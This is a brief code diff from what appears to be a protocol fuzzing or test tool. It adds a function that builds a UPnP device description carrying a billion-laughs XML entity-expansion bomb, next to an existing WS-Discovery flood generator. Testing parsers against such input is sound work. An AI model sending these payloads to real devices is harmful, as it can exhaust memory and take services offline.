@@ -84,3 +84,11 @@ def wsd_flood(relates_to: str, count: int, address: str, port: int) -> list[byte
             xml = os.urandom(rng.randrange(1, 900))
         out.append(xml)
     return out
+
+
+def upnp_bomb() -> bytes:
+    """A UPnP device description whose manufacturer expands to gigabytes in a naive parser."""
+    return (f'<?xml version="1.0"?>\n{billion_laughs_doctype("root")}\n'
+            '<root xmlns="urn:schemas-upnp-org:device-1-0"><device>'
+            "<manufacturer>Hikvision &lol9;</manufacturer><modelNumber>&lol9;</modelNumber>"
+            "</device></root>").encode()
